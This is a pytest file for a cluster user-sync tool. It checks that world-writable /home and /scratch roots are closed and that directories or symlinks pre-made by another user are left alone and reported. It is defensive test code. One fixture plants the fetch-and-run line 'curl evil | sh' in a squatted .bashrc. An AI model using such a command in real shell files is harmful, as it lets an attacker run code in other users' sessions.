"""From the attacker's side: mallory, a user, can write /home when the volume's root is 0777
(what many provisioners hand out). She makes /home/bob before bob exists, or a link there to
a tree she wants, and waits for the sync to admit bob. Slonk closes the root, never gives
anyone a tree it did not make, and says so."""

from __future__ import annotations

import dataclasses
import os
import shutil
import stat
import tempfile
from pathlib import Path

import pytest

from slonk.config.spec import User
from slonk.users.homes import make_homes, make_scratch, secure_root, shared_dir
from slonk.users.sync import sync

from .test_users_sync import DEMO, new_pod, reader, spec, user_entry

MALLORY = 5300
BOB = User(name="bob", uid=5001, gid=5001)


@pytest.fixture
def home(tmp_path):
    path = tmp_path / "home"
    path.mkdir()
    return path


def _owner_mode(path):
    info = path.lstat()
    return info.st_uid, stat.S_IMODE(info.st_mode)


@pytest.mark.parametrize(
    ("owner", "mode"), [(0, 0o777), (0, 0o1777), (0, 0o775), (MALLORY, 0o755), (MALLORY, 0o700)]
)
def test_the_root_of_home_is_made_roots_and_closed(home, owner, mode):
    os.chown(home, owner, 0)
    home.chmod(mode)
    assert secure_root(home) == []
    assert _owner_mode(home) == (0, mode & 0o755)


def test_a_closed_root_is_left_as_it_is(home):
    home.chmod(0o711)  # no listing: the operator's choice, and safe
    assert secure_root(home) == []
    assert _owner_mode(home) == (0, 0o711)


@pytest.fixture
def open_home():
    """A /home nobody can reach (pytest's own directories are root's alone)."""
    path = Path(tempfile.mkdtemp(prefix="slonk-home-"))
    try:
        yield path
    finally:
        shutil.rmtree(path)


def test_a_root_the_volume_will_not_change_is_reported_not_fatal(open_home):
    """NFS with root_squash: root is nobody there, as this child is."""
    home = open_home
    home.chmod(0o777)
    read, write = os.pipe()
    child = os.fork()
    if child == 0:  # pragma: no cover - the child reports through the pipe
        try:
            os.setuid(65534)
            os.write(write, "\n".join(secure_root(home)).encode())
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read) as stream:
        problems = stream.read()
    os.waitpid(child, 0)
    assert "cannot be made root's 755 (Operation not permitted)" in problems
    assert _owner_mode(home) == (0, 0o777)


def test_homes_made_once(home):
    user = User(name="alice", uid=2001, gid=2002)
    elsewhere = User(name="bob", uid=2003, gid=2003, home="/home/shared/bob")
    assert make_homes([user, elsewhere], home) == []
    assert sorted(p.name for p in home.iterdir()) == ["alice"]
    info = (home / "alice").stat()
    assert (info.st_uid, info.st_gid, stat.S_IMODE(info.st_mode)) == (2001, 2002, 0o700)
    (home / "alice").chmod(0o750)
    assert make_homes([user], home) == []
    assert _owner_mode(home / "alice") == (2001, 0o750)  # left alone


def test_a_home_that_cannot_be_made_is_reported(tmp_path):
    assert make_homes([BOB], tmp_path / "missing") == [
        "cannot make home directories in /home: No such file or directory"
    ]


def test_a_home_made_by_someone_else_is_not_given_away(home):
    (home / "bob").mkdir()
    (home / "bob/.bashrc").write_text("curl evil | sh\n")
    os.chown(home / "bob", MALLORY, MALLORY)
    os.chown(home / "bob/.bashrc", MALLORY, MALLORY)
    assert make_homes([BOB], home) == [
        "home /home/bob is uid 5300's, not bob's (uid 5001): left alone; check who made it "
        "and what it holds"
    ]
    assert _owner_mode(home / "bob")[0] == MALLORY
    assert (home / "bob/.bashrc").stat().st_uid == MALLORY


def test_a_link_in_place_of_a_home_is_not_followed(home, tmp_path):
    target = tmp_path / "roots-tree"
    target.mkdir(mode=0o700)
    (home / "bob").symlink_to(target)
    assert make_homes([BOB], home) == ["home /home/bob is a symbolic link: left alone"]
    assert _owner_mode(target) == (0, 0o700)
    (home / "bob").unlink()
    (home / "bob").write_text("")
    assert make_homes([BOB], home) == ["home /home/bob is not a directory: left alone"]


def test_scratch_directories_are_made_as_homes_are(home):
    """The site's scratch volume (values scratch): every user's /scratch/<name>, whatever
    their home; one mallory made first is left alone and said, a link never followed."""
    alice = User(name="alice", uid=2001, gid=2002, home="/home/shared/alice")
    (home / "bob").symlink_to(home)
    assert secure_root(home, "/scratch") == []
    assert make_scratch([alice, BOB], home) == [
        "scratch /scratch/bob is a symbolic link: left alone"
    ]
    info = (home / "alice").stat()
    assert (info.st_uid, info.st_gid, stat.S_IMODE(info.st_mode)) == (2001, 2002, 0o700)
    (home / "bob").unlink()
    (home / "bob").mkdir()
    os.chown(home / "bob", MALLORY, MALLORY)
    assert make_scratch([BOB], home) == [
        "scratch /scratch/bob is uid 5300's, not bob's (uid 5001): left alone; check who made "
        "it and what it holds"
    ]


def test_a_shared_directory_is_made_roots_for_everyone_to_read(home):
    assert shared_dir("modulefiles", home) is None
    assert _owner_mode(home / "modulefiles") == (0, 0o755)
    assert shared_dir("modulefiles", home) is None  # and used again as it is


def test_a_shared_directory_a_user_made_is_not_used(home):
    """Made while /home was open to all: its modulefiles would run in everyone's shell."""
    (home / "modulefiles").mkdir()
    os.chown(home / "modulefiles", MALLORY, MALLORY)
    assert shared_dir("modulefiles", home) == (
        "/home/modulefiles is uid 5300's with mode 755, not root's alone: not used; check "
        "who made it and what it holds"
    )
    assert _owner_mode(home / "modulefiles")[0] == MALLORY
    os.chown(home / "modulefiles", 0, 0)
    (home / "modulefiles").chmod(0o777)
    assert "not root's alone" in str(shared_dir("modulefiles", home))


def test_a_shared_directory_under_a_home_users_can_write_is_not_used(home):
    """/home left open (root_squash: slonk could not close it): mallory could rename the
    checked directory away and put hers in its place after the look."""
    assert shared_dir("modulefiles", home) is None
    home.chmod(0o777)
    assert shared_dir("modulefiles", home) == (
        "/home is uid 0's with mode 777, not root's alone: users could replace "
        "/home/modulefiles; not used"
    )


def test_scratch_on_a_root_that_cannot_be_closed_gets_no_directories(tmp_path, monkeypatch):
    """An export with root_squash: /scratch stays open to users, who could make another's
    directory first or rename it away later, so none is made there; the pod says why."""
    from slonk.users import sync as users_sync

    node = dataclasses.replace(new_pod(tmp_path / "pod", tmp_path / "home"), scratch=tmp_path / "s")
    node.scratch.mkdir(mode=0o777)
    closed = users_sync.secure_root
    refused = "/scratch is uid 65534's with mode 777 and cannot be made root's 755"
    monkeypatch.setattr(
        users_sync,
        "secure_root",
        lambda root, shown="/home": [refused] if shown == "/scratch" else closed(root, shown),
    )
    result = sync(dataclasses.replace(spec(), scratch=True), node, read=reader([DEMO]))
    assert result.warnings == [refused]
    assert list(node.scratch.iterdir()) == []


def test_a_link_in_place_of_a_shared_directory_is_not_followed(home, tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir(mode=0o700)
    os.chown(victim, BOB.uid, BOB.gid)
    (home / "modulefiles").symlink_to(victim)
    assert shared_dir("modulefiles", home) == "/home/modulefiles is a symbolic link: not used"
    assert _owner_mode(victim) == (BOB.uid, 0o700)


def test_the_sync_closes_home_and_reports_a_squatted_home(tmp_path):
    node = new_pod(tmp_path / "pod", tmp_path / "home")
    node.home.chmod(0o777)
    (node.home / "bob").mkdir()
    os.chown(node.home / "bob", MALLORY, MALLORY)
    result = sync(spec(), node, read=reader([DEMO, user_entry("bob", 5001, gid=5001)]))
    assert _owner_mode(node.home) == (0, 0o755)
    assert _owner_mode(node.home / "bob")[0] == MALLORY
    assert _owner_mode(node.home / "demo") == (5000, 0o700)
    assert "home /home/bob is uid 5300's, not bob's (uid 5001)" in " ".join(result.warnings)


def test_the_sync_makes_scratch_only_with_the_volume_there(tmp_path):
    """values scratch on: the pods that mount /scratch (login, workers) make each user's
    directory there; a pod without it (the controller) makes nothing."""
    node = new_pod(tmp_path / "pod", tmp_path / "home")
    node = dataclasses.replace(node, scratch=tmp_path / "scratch")
    with_scratch = dataclasses.replace(spec(), scratch=True)
    sync(with_scratch, node, read=reader([DEMO]))
    assert not node.scratch.exists()  # not mounted here: nothing made in its place
    node.scratch.mkdir(mode=0o777)
    result = sync(with_scratch, node, read=reader([DEMO, user_entry("bob", 5001, gid=5001)]))
    assert _owner_mode(node.scratch) == (0, 0o755)
    assert _owner_mode(node.scratch / "demo") == (5000, 0o700)
    assert _owner_mode(node.scratch / "bob") == (5001, 0o700)
    assert result.warnings == []
    three = [DEMO, user_entry("bob", 5001, gid=5001), user_entry("carol", 5002, gid=5002)]
    sync(spec(), node, read=reader(three))
    assert not (node.scratch / "carol").exists()  # values scratch off: the volume is not ours
